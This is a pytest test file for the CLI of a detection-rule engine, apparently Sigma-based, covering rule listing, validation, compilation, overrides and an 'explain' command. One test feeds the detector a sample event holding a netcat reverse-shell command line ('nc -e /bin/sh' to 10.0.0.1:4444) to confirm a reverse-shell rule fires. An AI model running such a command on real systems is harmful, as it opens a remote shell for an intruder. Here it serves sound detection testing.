"""`vedette rules`: what it prints, what it writes, when it fails."""

import json
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

import rules
from cli.rules import command
from detection.rules import load_compiled

_RULE = """
title: T
id: 6f1b1a5e-0d3c-4b5e-9a53-5a3b5b1b1b1b
logsource: {product: linux, category: CATEGORY}
detection: {s: {FIELD: a}, condition: s}
"""


def _run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(command, args)
    return result.exit_code, result.output


def test_list_gives_every_shipped_rule() -> None:
    code, output = _run("list", "--format", "json")
    listed = json.loads(output)
    assert code == 0
    assert len(listed) == len(rules.sources("runtime")) + len(rules.sources("audit"))
    assert [row["level"] for row in listed if row["id"] == "container-entered"] == ["informational"]
    code, text = _run("list")
    assert code == 0
    assert text.rstrip().endswith(f"{len(listed)} rules")


def test_check_says_what_cannot_be_used_and_what_never_matches(tmp_path: Path) -> None:
    (tmp_path / "good.yml").write_text(_RULE.replace("CATEGORY", "process_creation").replace("FIELD", "Image"))
    (tmp_path / "strange.yml").write_text(
        _RULE.replace("CATEGORY", "driver_load").replace("FIELD", "ImageLoaded").replace("6f1b", "6f1c")
    )
    (tmp_path / "missing.yml").write_text(
        _RULE.replace("CATEGORY", "network_connection").replace("FIELD", "DestinationIsIpv6").replace("6f1b", "6f1d")
    )
    code, output = _run("check", str(tmp_path), "--format", "json")
    checked = json.loads(output)
    assert code == 0
    assert checked["usable"] == 3
    assert [w["reason"] for w in checked["warnings"]] == [
        "network_connection events have no field DestinationIsIpv6",
        "no event source here carries driver_load events: the rule never matches",
    ]
    (tmp_path / "bad.yml").write_text("title: T\nstatus: test\ncorrelation: {}\n")
    code, output = _run("check", str(tmp_path))
    assert code == 1
    assert f"problem: {tmp_path / 'bad.yml'}:3: T: Sigma correlation rule without type" in output


def test_check_runs_a_rules_own_samples(tmp_path: Path) -> None:
    text = _RULE.replace("CATEGORY", "process_creation").replace("FIELD", "Image")
    (tmp_path / "r.yml").write_text(text + "vedette: {samples: {attack: [{Image: b}], benign: [{Image: c}]}}\n")
    code, output = _run("check", str(tmp_path))
    assert code == 1
    assert "attack sample 1 does not fire" in output


def test_compile_writes_what_is_shipped(tmp_path: Path) -> None:
    code, _ = _run("compile", "--output", str(tmp_path))
    assert code == 0
    for kind in rules.KINDS:
        assert (tmp_path / f"{kind}.json").read_bytes() == rules.compiled(kind)


def test_compile_takes_own_rules_exceptions_overrides_and_placeholders_along(tmp_path: Path) -> None:
    own = tmp_path / "own"
    own.mkdir()
    rule = _RULE.replace("CATEGORY", "process_creation").replace("FIELD: a", 'User|expand: "%admins%"')
    (own / "rule.yml").write_text(rule)
    (own / "placeholders.yml").write_text("admins: [root]\n")
    (own / "lower.yml").write_text("title: Ours\noverride: {rules: [package-manager-in-container], level: low}\n")
    code, output = _run("compile", str(own), "--output", str(tmp_path / "out"))
    assert code == 1
    assert "lower.yml: Ours: override: no rule is called package-manager-in-container" in output
    shipped = load_compiled(rules.runtime_rules()).rules[0]
    (own / "lower.yml").write_text(f"title: Ours\noverride: {{rules: [{shipped.id}], level: informational}}\n")
    code, _ = _run("compile", str(own), "--output", str(tmp_path / "out"))
    assert code == 0
    compiled = {r.id: r for r in load_compiled((tmp_path / "out" / "runtime.json").read_bytes()).rules}
    assert compiled[shipped.id].level.label == "informational"
    assert len(compiled) == len(rules.sources("runtime")) + 1


def test_samples_of_every_shipped_rule_behave_and_explain_says_why(tmp_path: Path) -> None:
    code, output = _run("test")
    count = len(rules.sources("runtime")) + len(rules.sources("audit"))
    assert (code, output) == (0, f"{count} of {count} rules behave on their samples\n")
    event = tmp_path / "event.json"
    event.write_text('{"Image": "/usr/bin/nc", "CommandLine": "nc -e /bin/sh 10.0.0.1 4444"}')
    code, output = _run("explain", "reverse-shell", str(event))
    assert code == 0
    assert output.startswith("reverse-shell (process_creation) holds\n")
    assert "yes Image endswith any of '/nc'" in output
    code, output = _run("explain", "nobody", str(event))
    assert code == 1
    assert "no rule is called nobody" in output


@pytest.mark.parametrize("module", ["agent.detect", "cli.rules"])
def test_no_sigma_parser_is_loaded_where_rules_only_run(module: str) -> None:
    code = (
        f"import sys, {module}, rules; from detection.rules import load_compiled; load_compiled(rules.runtime_rules())"
    )
    subprocess.run([sys.executable, "-c", f"{code}; assert not {{'sigma', 'yaml'}} & set(sys.modules)"], check=True)


def test_check_knows_the_shipped_rules_that_filters_and_overrides_are_about(tmp_path: Path) -> None:
    (tmp_path / "mine.yml").write_text(_RULE.replace("CATEGORY", "process_creation").replace("FIELD", "Image"))
    override = "title: O\noverride: {rules: [NAME], level: low}\n"
    (tmp_path / "known.yml").write_text(override.replace("NAME", "container-entered"))
    code, output = _run("check", str(tmp_path))
    assert (code, output) == (0, "1 rules usable, 0 problems, 0 warnings\n")
    (tmp_path / "unknown.yml").write_text(override.replace("NAME", "nothing-like-it"))
    code, output = _run("check", str(tmp_path))
    assert code == 1
    assert "override: no rule is called nothing-like-it" in output
